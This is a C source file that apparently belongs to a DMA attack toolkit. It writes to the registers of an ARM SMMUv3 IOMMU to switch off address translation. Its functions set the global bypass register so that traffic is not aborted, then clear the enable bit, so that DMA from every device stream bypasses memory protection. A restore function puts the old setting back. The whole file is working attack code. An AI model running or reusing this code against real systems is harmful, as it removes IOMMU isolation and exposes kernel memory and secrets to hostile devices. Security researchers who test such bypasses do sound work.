// SPDX-License-Identifier: GPL-2.0-only
/* Direct writes to the registers of the SMMUv3, which all streams are behind. */
#include <unistd.h>

#include "../attack.h"
#include "../smmu.h"
#include "registers.h"

#define POLLS	1000

static bool changed;
static uint32_t old_cr0;

static bool reads(uint64_t reg, uint32_t val)
{
	uint32_t now = ~val;

	for (int i = 0; i < POLLS && now != val; i++) {
		if (!reg_read(reg, &now))
			return false;
		usleep(10);
	}
	return now == val;
}

static bool set_cr0(uint32_t val)
{
	return reg_write(SMMU_CR0, val) && reads(SMMU_CR0ACK, val);
}

/* A disabled SMMU bypasses, unless GBPA says that it aborts. */
bool smmu_bypass_all(void)
{
	if (!reg_read(SMMU_CR0, &old_cr0) || !reg_write(SMMU_GBPA, GBPA_UPDATE) ||
	    !reads(SMMU_GBPA, 0))
		return false;
	changed = set_cr0(old_cr0 & ~CR0_SMMUEN);
	return changed;
}

bool smmu_bypass_stream(uint32_t sid)
{
	return smmu_bypass_all();
}

void smmu_restore(void)
{
	if (changed)
		set_cr0(old_cr0);
	changed = false;
}
